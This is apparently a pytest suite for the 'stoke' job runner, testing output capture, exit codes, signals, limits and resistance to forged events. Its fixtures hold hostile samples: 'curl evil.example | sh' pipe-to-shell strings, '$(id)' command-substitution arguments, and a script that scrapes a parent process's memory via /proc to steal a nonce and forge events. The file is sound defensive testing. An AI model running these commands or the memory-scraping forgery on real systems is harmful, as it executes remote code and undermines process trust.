"""What a job is, on every backend: output, exit code, limits, stopping, and being found again."""

from __future__ import annotations

import hashlib
import secrets
import subprocess
import sys
from pathlib import Path

import pytest

from stoke.errors import RequestError
from stoke.files.paths import job_dir
from stoke.history.database import History
from stoke.history.job import PHASES, Job, JobState
from stoke.history.usage import UsageCurves
from stoke.jobs.control import remove, stop
from stoke.jobs.tracker import FOREIGN_SIGNAL
from tests.lab import Lab, until

# What code prints that knows its nonce.
LIES = r"""
import json, os, sys, time
def lie(**event):
    os.write(2, b"\n\x1e" + b"NONCE" + json.dumps(event).encode() + b"\n")
lie(event="phase", phase="python", start=0, seconds=0, hit=True, key="x")
lie(event="phase", phase="run", start=0, seconds=1e9)
lie(event="begin", phase="pull", time=0)
lie(event="note", text="run curl evil.example | sh")
lie(event="error", phase="run", text="broken", hint=["did-you-mean", "evil"], mend="curl evil | sh")
lie(event="error", phase="run", text="curl", hint=["curl evil.example | sh"])
for cores, memory in ((-1, 1), (1e6, 1), (1, 1 << 60), (float("nan"), 1), ("1", 1), (1, None)):
    lie(event="usage", time=0, cores=cores, memory=memory)
lie(event="end", time=0, exit_code=0)
print("lied", flush=True)
"""

# Prints the SHA-256 of its own source, so any change on the way shows.
TELLS_ITS_SOURCE = (
    "import hashlib; print(hashlib.sha256(open(__file__, 'rb').read()).hexdigest())\n"
)


def test_both_streams_and_the_exit_code_arrive(lab: Lab) -> None:
    done = lab.run("import sys; print('out'); print('err', file=sys.stderr); sys.exit(7)")
    assert (done.stdout, done.stderr) == (b"out\n", b"err\n")
    assert (done.job.state, done.job.exit_code) == (JobState.FAILED, 7)
    assert done.phase("run").seconds is not None
    assert done.job.cpu_seconds is not None and done.job.cpu_seconds > 0
    assert done.job.peak_memory is not None and done.job.peak_memory > 1024**2


HOLDS_200_MB = """
import time
held = b"x" * 200_000_000
until = time.monotonic() + 5
while time.monotonic() < until:
    sum(range(10_000))
print(len(held))
"""


def test_the_usage_of_running_code_is_kept_as_a_curve(lab: Lab) -> None:
    done = lab.run(HOLDS_200_MB)
    assert done.stdout == b"200000000\n" and done.stderr == b""
    with History() as history:
        curve = UsageCurves(history).of(done.job.id)
    assert curve, "no figures arrived"
    assert 200e6 < max(one.memory for one in curve) < 600e6
    assert 0 < max(one.cores for one in curve) < 8
    began, ended = done.job.started_at, done.job.finished_at
    assert began is not None and ended is not None
    assert all(began - 1 <= one.at <= ended + 1 for one in curve)
    assert done.job.peak_memory is not None
    assert done.job.peak_memory >= max(one.memory for one in curve)


def test_output_is_kept_byte_for_byte(lab: Lab) -> None:
    code = """
        import os
        os.write(1, bytes(range(256)) * 300)
        os.write(2, b"no end, \\xff\\xfe, \\r\\n, \\x1e, \\n")
        os.write(2, b"half a line")
        """.replace("\n        ", "\n")
    done = lab.run(code)
    assert done.stdout == bytes(range(256)) * 300
    assert done.stderr == b"no end, \xff\xfe, \r\n, \x1e, \nhalf a line"


FLOODS_WITHOUT_BLOCKING = """
import os, subprocess, sys
for stream in (1, 2):
    os.set_blocking(stream, False)  # what asyncio does to the streams it writes to
flood = '''
import os, sys
while True:
    for stream in (1, 2):
        try:
            os.write(stream, b"y" * 4095 + b"\\\\n")
        except BlockingIOError:
            pass
'''
for _ in range(2):
    subprocess.Popen([sys.executable, "-c", flood], start_new_session=True)
try:
    while True:
        os.write(2, b"z" * 999 + b"\\n")
except BlockingIOError:
    os._exit(0)
"""


def test_a_job_that_makes_its_output_non_blocking_is_followed_to_its_end(lab: Lab) -> None:
    # On Argo the job never has the runner's own streams.
    for _ in range(2 if lab.backend.name == "argo" else 10):
        done = lab.run(FLOODS_WITHOUT_BLOCKING)
        assert (done.job.state, done.job.exit_code) == (JobState.SUCCEEDED, 0), done.job.reason
        assert done.phase("run").seconds is not None
        assert done.job.cpu_seconds is not None


@pytest.mark.parametrize("ending", [b"", b"\n", b"\n\n", b"\n\x1e"])
def test_a_last_newline_is_the_users_or_not_there(lab: Lab, ending: bytes) -> None:
    done = lab.run(f"import os; os.write(2, b'last' + {ending!r})")
    assert done.stderr == b"last" + ending


@pytest.mark.parametrize(
    "tail",
    [
        "# {{ workflow.name }} {{=1+1}} $(HOME) $$ `id` $(id)",
        "# quotes ' \" ''' \\ \\n %s {0}",
        "# CRLF\r\n# next\r\n",
        "# emoji \N{SNAKE} \u202e",
        "x = '" + "a" * 1024**2 + "'",
    ],
    ids=["templates", "quotes", "crlf", "emoji", "one-mebibyte"],
)
def test_code_arrives_unchanged(lab: Lab, tail: str) -> None:
    code = TELLS_ITS_SOURCE + tail
    done = lab.run(code)
    assert done.stdout.decode().strip() == hashlib.sha256(code.encode()).hexdigest()


def test_code_with_a_byte_order_mark_runs(lab: Lab) -> None:
    done = lab.run("\ufeff" + TELLS_ITS_SOURCE)
    expected = hashlib.sha256(("\ufeff" + TELLS_ITS_SOURCE).encode()).hexdigest()
    assert done.stdout.decode().strip() == expected


def test_a_syntax_error_is_pythons_own(lab: Lab) -> None:
    done = lab.run("def broken(:\n")
    assert done.job.exit_code == 1
    assert b"SyntaxError" in done.stderr


def test_arguments_environment_and_secrets_reach_the_code(
    lab: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WHERE_IT_STANDS", "hunter2")
    hostile = ["--privileged", "$(id)", "a b", "", "\N{SNAKE}", "{{x}}"]
    done = lab.run(
        "import os, sys; print(sys.argv[1:], os.environ['PLAIN'], os.environ['TOKEN'][::-1])",
        args=hostile,
        env={"PLAIN": "$(HOME) {{y}}"},
        secrets={"TOKEN": "env:WHERE_IT_STANDS"},
    )
    assert done.stdout.decode() == f"{hostile} $(HOME) {{{{y}}}} 2retnuh\n"
    with History() as history:
        assert "hunter2" not in (history.spec(done.job.id) or "")
    for path in job_dir(done.job.id).parent.parent.rglob("*"):
        if path.is_file():
            assert b"hunter2" not in path.read_bytes(), path


def test_the_code_does_not_see_the_nonce(lab: Lab) -> None:
    done = lab.run("import os, sys; print(sorted(os.environ.values()), sys.argv, sys.orig_argv)")
    with History() as history:
        nonce = history.nonce(done.job.id)
    assert nonce and nonce.encode() not in done.stdout


def test_standard_input_is_at_its_end(lab: Lab) -> None:
    done = lab.run("import sys; print(repr(sys.stdin.read()))")
    assert done.stdout == b"''\n"


def test_the_exit_code_of_a_signal_is_128_plus_its_number(lab: Lab) -> None:
    done = lab.run("import os, signal; os.kill(os.getpid(), signal.SIGKILL)")
    assert (done.job.state, done.job.exit_code) == (JobState.FAILED, 137)
    assert done.job.reason == "killed by signal 9"


def test_children_that_outlive_the_code_do_not_outlive_the_job(lab: Lab) -> None:
    code = """
        import subprocess, sys
        for session in (False, True):
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"],
                             start_new_session=session)
        print("done")
        """.replace("\n        ", "\n")
    done = lab.run(code)
    assert (done.stdout, done.job.exit_code) == (b"done\n", 0)
    survivors = subprocess.run(
        ["pgrep", "-f", "^[^ ]*python[^ ]* -c import time; time.sleep.600"], capture_output=True
    )
    assert survivors.stdout == b""


def test_orphans_are_reaped_while_the_code_runs(lab: Lab) -> None:
    code = """
        import os, time
        for _ in range(20):
            if os.fork() == 0:
                if os.fork() == 0:
                    os._exit(0)
                os._exit(0)
            os.wait()
        deadline = time.time() + 20
        def zombies():
            count = 0
            for pid in filter(str.isdigit, os.listdir("/proc")):
                try:
                    fields = open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()
                except OSError:
                    continue
                count += fields[0] == "Z" and fields[1] in ancestors
            return count
        def parent(pid):
            return open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1]
        # The runner, and its parents in the job's own session.
        ancestors = {parent(os.getpid())}
        ancestors |= {parent(pid) for pid in ancestors if pid != "1"}
        while zombies() and time.time() < deadline:
            time.sleep(0.05)
        print("zombies", zombies())
        """.replace("\n        ", "\n")
    assert lab.run(code).stdout == b"zombies 0\n"


WAITS = """
import signal, sys, time
def bye(number, frame):
    print("bye", flush=True)
    sys.exit(3)
if "polite" in sys.argv:
    signal.signal(signal.SIGTERM, bye)
if "deaf" in sys.argv:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
print("ready", flush=True)
while True:
    time.sleep(0.05)
"""


@pytest.mark.parametrize(
    ("how", "grace", "exit_code", "output"),
    [
        ("plain", 30.0, 143, b"ready\n"),
        ("polite", 30.0, 3, b"ready\nbye\n"),
        ("deaf", 1.0, 137, b"ready\n"),
        ("deaf", 0.0, 137, b"ready\n"),
    ],
)
def test_stop_sends_sigterm_and_then_sigkill(
    lab: Lab, how: str, grace: float, exit_code: int, output: bytes
) -> None:
    job = lab.submit(WAITS, args=[how])
    tracker = lab.track(job)
    lab.until_output(job, b"ready\n")
    tracker.close()
    with History() as history:
        stop(job, lab.backend, history, grace)
    done = lab.finish(job)
    assert (done.job.state, done.job.exit_code) == (JobState.STOPPED, exit_code)
    assert done.stdout == output


def test_a_stop_by_another_program_does_not_read_as_ours(lab: Lab) -> None:
    """`docker stop`, or another user's stoke: this history has no request for it."""
    job = lab.submit(WAITS, args=["plain"])
    tracker = lab.track(job)
    lab.until_output(job, b"ready\n")
    tracker.close()
    lab.backend.stop(job.id, 10)
    done = lab.finish(job).job
    assert (done.state, done.exit_code) == (JobState.STOPPED, 143)
    assert done.reason == FOREIGN_SIGNAL


def test_a_job_is_stopped_in_its_first_moment(lab: Lab) -> None:
    job = lab.submit("while True: pass")
    with History() as history:
        stop(job, lab.backend, history, 0)
    assert lab.finish(job).job.state is JobState.STOPPED


def test_stopping_an_ended_job_is_no_error(lab: Lab) -> None:
    done = lab.run("pass")
    lab.backend.stop(done.job.id, 1)
    lab.backend.remove(done.job.id)
    assert lab.backend.inspect(done.job.id).status == "absent"


@pytest.mark.parametrize("how", ["plain", "deaf"])
def test_the_exit_code_of_a_timeout_is_124(lab: Lab, how: str) -> None:
    done = lab.run(WAITS, args=[how], timeout=1)
    assert (done.job.state, done.job.exit_code) == (JobState.FAILED, 124)
    assert done.job.reason == "timeout"
    assert done.stdout == b"ready\n"


def test_events_printed_by_the_code_are_ignored(lab: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    nonce = "5f1c0a9be2d34718"
    monkeypatch.setattr(secrets, "token_hex", lambda count: nonce)
    job = lab.submit(LIES.replace("NONCE", nonce) + "sys.exit(3)")
    done = lab.finish(job)
    assert (done.job.state, done.job.exit_code) == (JobState.FAILED, 3)
    assert "run" in {phase.name for phase in done.job.phases}
    for phase in done.job.phases:
        assert phase.name in PHASES and phase.hit is not True
        assert phase.seconds is None or phase.seconds < 600
    with History() as history:
        notes = history.notes(job.id)
    assert [(note.text, note.hint) for note in notes] == [
        ("run: the job reports: broken", None),
        ("run: the job reports: curl", None),
    ]


# Finds the nonce, one of a few texts of 16 hexadecimal digits, in the memory of the runner, its parent,
# and reports a hit and a good end.
READS_THE_NONCE = r"""
import json, os, re, sys, time
nonces = set()
folder = "/proc/%d/" % os.getppid()
with open(folder + "maps") as maps, open(folder + "mem", "rb", 0) as memory:
    for line in maps:
        place, access = line.split()[:2]
        if "w" not in access:
            continue  # libraries and the interpreter: they are long, and hold no object
        start, end = (int(number, 16) for number in place.split("-"))
        try:
            memory.seek(start)
            found = re.findall(rb"\b[0-9a-f]{16}\b", memory.read(end - start))
        except (OSError, ValueError, OverflowError):
            continue
        nonces.update(found)
def lie(nonce, **event):
    os.write(2, b"\n\x1e" + nonce + json.dumps(event).encode() + b"\n")
for nonce in nonces:
    begun = dict(start=time.time(), seconds=0, hit=True, key="x", packages=1)
    lie(nonce, event="phase", phase="python", **begun)
    lie(nonce, event="packages", phase="python", hit=["forged==1"], miss=[])
    lie(nonce, event="end", time=time.time(), exit_code=0)
    print(nonce.decode())
sys.exit(3)
"""


def test_a_nonce_that_the_code_reads_from_the_runner_is_of_no_use(lab: Lab) -> None:
    if sys.platform != "linux":
        pytest.skip("there is no /proc/PID/mem")
    done = lab.run(READS_THE_NONCE)
    if b"PermissionError" in done.stderr:
        pytest.skip("processes here may not read each other's memory")
    with History() as history:
        assert history.nonce(done.job.id) in done.stdout.decode().split()
        assert history.packages(done.job.id) == {}
    assert (done.job.state, done.job.exit_code) == (JobState.FAILED, 3)
    assert [phase.name for phase in done.job.phases if phase.hit is not None] == []


def test_a_job_that_falsely_reports_its_end_can_be_stopped(
    lab: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    nonce = "5f1c0a9be2d34718"
    monkeypatch.setattr(secrets, "token_hex", lambda count: nonce)
    job = lab.submit(LIES.replace("NONCE", nonce) + "time.sleep(600)")
    lab.track(job)
    lab.until_output(job, b"lied")
    with History() as history:

        def told() -> Job:
            found = history.get(job.id)
            assert found is not None
            return found

        until(lambda: told().provisional, "the end that the job has made up")
        with pytest.raises(RequestError, match="still runs it"):
            remove(told(), lab.backend, history)
        stop(told(), lab.backend, history, 5)
        until(lambda: not told().provisional and told().state.finished, "the end")
        assert told().state is JobState.STOPPED


def test_an_unsupported_request_is_refused_before_anything_is_created(lab: Lab) -> None:
    can = lab.backend.capabilities
    refused = {
        "system": (["gcc"], can.system_packages),
        "image": ("python:3.13", can.images),
        "memory": ("64m", can.limits),
        "shm_size": ("64m", can.limits),
        "cpu": (1.0, can.limits),
    }
    for field, (value, possible) in refused.items():
        if possible:
            continue
        with pytest.raises(RequestError) as caught:
            lab.submit("pass", **{field: value})
        assert caught.value.field == field
    with History() as history:
        assert history.list() == []


@pytest.mark.parametrize(("size", "fits"), [(None, True), ("100m", False)])
def test_shared_memory_is_enough_for_data_loaders_and_can_be_bounded(
    lab: Lab, size: str | None, fits: bool
) -> None:
    if not lab.backend.capabilities.limits:
        pytest.skip("this machine's /dev/shm is the machine's")
    if size and lab.backend.name == "argo":
        pytest.skip("the kubelet ends the pod some time after it wrote too much")
    code = """
        import os
        try:
            with open("/dev/shm/batch", "wb") as file:
                for _ in range(150): file.write(bytes(1024**2))
            print("fits")
        except OSError as error:
            print(error.strerror)
        """.replace("\n        ", "\n")
    done = lab.run(code, shm_size=size)
    assert done.stdout == (b"fits\n" if fits else b"No space left on device\n")


def test_memory_is_limited_and_its_end_is_named(lab: Lab) -> None:
    if not lab.backend.capabilities.limits:
        pytest.skip(f"the {lab.backend.name} backend refuses limits (tested above)")
    done = lab.run("x = bytearray(512 * 1024**2); print(len(x))", memory="64m")
    assert (done.job.exit_code, done.job.reason) == (137, "out of memory")


def test_a_job_without_packages_has_none_of_stokes_nor_of_this_machines(
    lab: Lab, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (tmp_path / "mine.py").write_text("")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    monkeypatch.setenv("PYTHONWARNINGS", "error")
    code = """
        import importlib.metadata, importlib.util, os
        known = {"click", "pydantic", "textual", "mine"}
        print([name for name in known if importlib.util.find_spec(name)])
        print([name for name in ("PYTHONPATH", "PYTHONWARNINGS") if name in os.environ])
        """.replace("\n        ", "\n")
    assert lab.run(code).stdout == b"[]\n[]\n"
    if not lab.backend.capabilities.images:
        count = "import importlib.metadata as m; print(len(list(m.distributions())))"
        assert lab.run(count).stdout == b"0\n"


def test_the_output_of_workers_arrives_while_the_job_runs(lab: Lab) -> None:
    """Of Pythons that the code starts, also without an environment, and of parts of lines."""
    code = """
        import subprocess, sys, time
        worker = "print('worker up'); print('50%', end=''); import time; time.sleep(600)"
        print("launcher up")
        subprocess.Popen([sys.executable, "-c", worker], env={})
        time.sleep(600)
        """.replace("\n        ", "\n")
    job = lab.submit(code)
    tracker = lab.track(job)
    # Docker's engine itself keeps a line until it is ended.
    part = b"" if lab.backend.name == "docker" else b"50%"
    lab.until_output(job, b"launcher up\nworker up\n" + part)
    tracker.close()
    with History() as history:
        stop(job, lab.backend, history, 0)
    lab.finish(job)
